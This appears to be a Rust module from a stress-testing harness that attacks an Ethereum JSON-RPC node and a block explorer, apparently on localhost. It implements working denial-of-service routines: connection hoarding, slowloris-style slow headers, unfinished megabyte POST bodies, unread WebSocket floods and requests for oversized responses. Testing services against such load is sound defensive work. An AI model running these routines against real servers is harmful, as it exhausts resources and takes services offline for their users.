//! Connections that take and give nothing back.

use std::{collections::VecDeque, net::SocketAddr, time::Duration};

use futures_util::SinkExt;
use rand::Rng;
use serde_json::json;
use tokio::{io::AsyncWriteExt, net::TcpStream, time::sleep};
use tokio_tungstenite::{client_async, tungstenite::Message};

use super::client::{Attacker, post_request, rpc_body};

/// Connections of one client: more than any of the targets may grant.
const MANY: usize = 2_500;

/// Opens connections until there are many, does something to each, and holds them.
async fn hoard(attacker: &mut Attacker, to: SocketAddr, first_words: &[u8]) -> Vec<TcpStream> {
    let mut held = Vec::new();
    for _ in 0..MANY {
        let Ok(mut stream) = attacker.connect(to).await else { break };
        if stream.write_all(first_words).await.is_ok() {
            held.push(stream);
        }
    }
    held
}

/// Holds one thing more, and lets go of the oldest when there are many: the attacker has a machine of its own limits.
fn hold<T>(held: &mut VecDeque<T>, one: T) {
    held.push_back(one);
    if held.len() > MANY {
        held.pop_front();
    }
}

/// What has a long answer.
fn long_question(attacker: &mut Attacker) -> String {
    let range = json!([{ "fromBlock": "0x0", "toBlock": "latest" }]);
    let blocks: Vec<String> = (0..attacker.dice.random_range(1..100))
        .map(|_| rpc_body("eth_getBlockByNumber", &json!(["0x0", true])))
        .collect();
    match attacker.dice.random_range(0..4) {
        0 => rpc_body("eth_getLogs", &range),
        1 => format!("[{}]", blocks.join(",")),
        2 => rpc_body("eth_getCode", &json!(["0xcA11bde05977b3631167028862bE2a173976CA11", "latest"])),
        // An error that says the whole question again would be long, too.
        _ => rpc_body(&"x".repeat(100_000), &json!([])),
    }
}

/// Sends requests over WebSockets and never reads.
pub(super) async fn open_sockets_that_do_not_read(mut attacker: Attacker) {
    let mut held = VecDeque::new();
    loop {
        let question = long_question(&mut attacker);
        let to = attacker.targets.rpc;
        let Ok(stream) = attacker.connect(to).await else {
            sleep(Duration::from_millis(50)).await;
            continue;
        };
        let Ok((mut socket, _)) = client_async(format!("ws://{to}/"), stream).await else { continue };
        let _ = tokio::time::timeout(Duration::from_secs(1), async {
            for _ in 0..200 {
                if socket.send(Message::text(question.clone())).await.is_err() {
                    return;
                }
            }
        })
        .await;
        hold(&mut held, socket);
    }
}

/// Asks for long answers, many on each connection, and never reads.
pub(super) async fn ask_without_reading(mut attacker: Attacker) {
    let mut held = VecDeque::new();
    loop {
        let to = attacker.any_target();
        let request = if to == attacker.targets.rpc {
            post_request("/", &long_question(&mut attacker), false)
        } else {
            let path = ["/api/v1/openapi.json", "/", "/api/v1/docs", "/blocks"];
            let path = path.get(attacker.dice.random_range(0..path.len())).copied().unwrap_or("/");
            format!("GET {path} HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n").into_bytes()
        };
        let Ok(mut stream) = attacker.connect(to).await else {
            sleep(Duration::from_millis(20)).await;
            continue;
        };
        let _ = tokio::time::timeout(Duration::from_millis(200), stream.write_all(&request.repeat(20))).await;
        hold(&mut held, stream);
    }
}

/// Begins bodies as long as they may be, and does not end them.
pub(super) async fn begin_bodies(mut attacker: Attacker) {
    let mut held = VecDeque::new();
    let body = vec![b' '; 1_000_000];
    loop {
        let to = attacker.any_target();
        let Ok(mut stream) = attacker.connect(to).await else {
            sleep(Duration::from_millis(20)).await;
            continue;
        };
        let head = "POST / HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\ncontent-length: 1048576\r\n\r\n";
        let _ = stream.write_all(head.as_bytes()).await;
        let _ = tokio::time::timeout(Duration::from_millis(200), stream.write_all(&body)).await;
        hold(&mut held, stream);
    }
}

/// Sends heads a byte at a time.
pub(super) async fn send_slow_heads(mut attacker: Attacker) {
    let to = attacker.any_target();
    let mut held = hoard(&mut attacker, to, b"POST / HTTP/1.1\r\nhost: 127.0.0.1\r\nx-a: ").await;
    loop {
        for stream in &mut held {
            let _ = stream.write_all(b"a").await;
        }
        sleep(Duration::from_secs(1)).await;
    }
}

/// Takes as many connections as there are.
pub(super) async fn take_connections(mut attacker: Attacker) {
    let to = attacker.any_target();
    let _held = hoard(&mut attacker, to, b"").await;
    std::future::pending().await
}

/// Takes as many live streams as there are.
pub(super) async fn take_streams(mut attacker: Attacker) {
    let to = attacker.targets.explorer;
    let request = b"GET /live HTTP/1.1\r\nhost: 127.0.0.1\r\naccept: text/event-stream\r\n\r\n";
    let _held = hoard(&mut attacker, to, request).await;
    std::future::pending().await
}
